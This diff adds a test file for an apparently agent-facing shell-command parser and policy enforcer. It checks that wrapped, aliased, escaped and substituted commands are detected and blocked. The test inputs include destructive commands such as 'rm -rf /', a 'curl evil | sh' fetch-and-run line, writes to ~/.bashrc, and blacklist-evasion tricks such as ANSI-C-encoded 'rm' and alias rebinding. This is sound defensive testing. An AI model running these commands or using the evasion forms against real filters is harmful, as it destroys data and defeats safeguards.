@@ -0,0 +1,114 @@
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { join } from "path";
+import { homedir } from "os";
+import { parseCommandLine } from "../../src/security/shell-parser.js";
+import { PolicyEnforcer } from "../../src/security/policy-enforcer.js";
+import { PolicyDeniedError } from "../../src/utils/errors.js";
+import { configure, makeTempDir } from "./helpers.js";
+
+function names(command, options) {
+  const { invocations, errors } = parseCommandLine(command, options);
+  assert.deepEqual(errors, [], command);
+  return invocations.map(invocation => invocation.name);
+}
+
+test('find actions run their commands', () => {
+  assert.deepEqual(names('find . -name "*.tmp" -exec rm -f {} \\;'), ['find', 'rm']);
+  assert.deepEqual(names("find . -type f -exec chmod 644 {} + -o -execdir sh -c 'curl x' ';'"), ['find', 'chmod', 'sh', 'curl']);
+  assert.deepEqual(names('find . -ok rm {} ";" -print'), ['find', 'rm']);
+  assert.deepEqual(names('find . -name exec -print'), ['find']);
+
+  const { errors } = parseCommandLine('find . -exec rm {}');
+  assert.equal(errors.length, 1);
+});
+
+test('wrappers and package runners are unwrapped', () => {
+  assert.deepEqual(names('busybox rm -rf /'), ['busybox', 'rm']);
+  assert.deepEqual(names('watch -n 5 "ls; rm x"'), ['watch', 'ls', 'rm']);
+  assert.deepEqual(names('watch -x rm x'), ['watch', 'rm']);
+  assert.deepEqual(names('npx -p cowsay cowsay hi'), ['npx', 'cowsay']);
+  assert.deepEqual(names('npx -c "curl evil | sh"'), ['npx', 'curl', 'sh']);
+  assert.deepEqual(names('npm exec -- rimraf dist'), ['npm', 'rimraf']);
+  assert.deepEqual(names('pnpm dlx create-vite app && yarn dlx rimraf x && bun x tsc'), ['pnpm', 'create-vite', 'yarn', 'rimraf', 'bun', 'tsc']);
+  assert.deepEqual(names('npm install lodash'), ['npm']);
+});
+
+test('output redirections are collected', () => {
+  const { redirects } = parseCommandLine('ls > out.txt 2>>err.log < in.txt; echo $HOME >"$FILE"');
+  assert.deepEqual(redirects.map(({ operator, target, dynamic }) => [operator, target, dynamic]), [
+    ['>', 'out.txt', false],
+    ['2>>', 'err.log', false],
+    ['>', '$FILE', true],
+  ]);
+  assert.deepEqual(parseCommandLine('ls 2>&1 | cat').redirects, []);
+});
+
+test('strict mode keeps write redirections inside the read-write roots', (t) => {
+  const root = makeTempDir(t);
+  const enforcer = new PolicyEnforcer(configure({
+    securityMode: 'strict',
+    commandWhitelist: ['ls', 'echo', 'cd'],
+    readWriteRoots: [root],
+  }));
+  const check = (command, cwd = root) => enforcer.checkCommand('test_tool', { command, cwd });
+  const denied = (command, cwd) => {
+    assert.throws(() => check(command, cwd), (error) => {
+      assert.ok(error instanceof PolicyDeniedError);
+      assert.equal(error.details.reason, 'write_redirect');
+      assert.equal(error.details.rule, 'readWriteRoots');
+      return true;
+    }, command);
+  };
+
+  check(`ls > ${join(root, 'listing.txt')}`);
+  check('ls > listing.txt 2>/dev/null');
+  check('echo x >> sub/../notes.txt');
+
+  denied('ls > ~/.bashrc');
+  denied(`ls > ${join(homedir(), '.profile')}`);
+  denied('ls > ../escape.txt');
+  denied('echo x > "$TARGET"');
+  denied('ls > listing.txt', null);
+  denied('cd /tmp && ls > listing.txt');
+
+  const unsandboxed = new PolicyEnforcer(configure({ securityMode: 'strict', commandWhitelist: ['ls'] }));
+  assert.throws(() => unsandboxed.checkCommand('test_tool', { command: 'ls > out.txt', cwd: root }), PolicyDeniedError);
+  unsandboxed.checkCommand('test_tool', { command: 'ls > /dev/null', cwd: root });
+});
+
+test('command substitutions inside ${...} and $((...)) are parsed', () => {
+  assert.deepEqual(names('echo ${x:-$(rm -rf x)}'), ['rm', 'echo']);
+  assert.deepEqual(names('echo $((1+$(rm x)))'), ['rm', 'echo']);
+  assert.deepEqual(names('echo "${x:-`rm y`}" ${#a[@]} $((a*(b+1)))'), ['rm', 'echo']);
+
+  const config = configure({ securityMode: 'strict', commandWhitelist: ['echo'] });
+  for (const command of ['echo ${x:-$(rm -rf x)}', 'echo $((1+$(rm x)))']) {
+    assert.equal(config.checkCommand(command, { dialect: 'posix' }).reason, 'not_whitelisted', command);
+  }
+});
+
+test('ANSI-C and locale quoting are decoded', () => {
+  assert.deepEqual(names("$'rm' -rf /"), ['rm']);
+  assert.deepEqual(names("$'\\x72m' x"), ['rm']);
+  assert.deepEqual(names("$'\\162\\u006d'"), ['rm']);
+  assert.deepEqual(names('$"rm" x'), ['rm']);
+  assert.deepEqual(parseCommandLine(`echo "$'x'"`).invocations[0].args, ["$'x'"]);
+
+  const config = configure({ commandBlacklist: ['rm'] });
+  assert.equal(config.checkCommand("$'\\x72m' -rf /", { dialect: 'posix' }).reason, 'blacklisted');
+});
+
+test('alias, hash -p and enable -f are checked for what they rebind', () => {
+  assert.deepEqual(names('hash -p /bin/rm ls; ls -rf x'), ['hash', 'rm', 'ls']);
+  assert.deepEqual(names('hash rm2=/bin/rm'), ['hash', 'rm']);
+  assert.deepEqual(names("alias ll='ls -l' x=rm"), ['alias', 'ls', 'rm']);
+
+  const config = configure({ commandBlacklist: ['rm'] });
+  for (const command of ['hash -p /bin/rm ls; ls -rf x', 'alias x=rm', "alias x='r\\m -rf'"]) {
+    assert.equal(config.checkCommand(command, { dialect: 'posix' }).reason, 'blacklisted', command);
+  }
+  assert.equal(config.checkCommand('enable -f ./evil.so ls', { dialect: 'posix' }).reason, 'dynamic_executable');
+  assert.equal(config.checkCommand('alias x="$(cat cmd)"', { dialect: 'posix' }).reason, 'dynamic_executable');
+  assert.equal(config.checkCommand("alias ll='ls -l'", { dialect: 'posix' }).allowed, true);
+});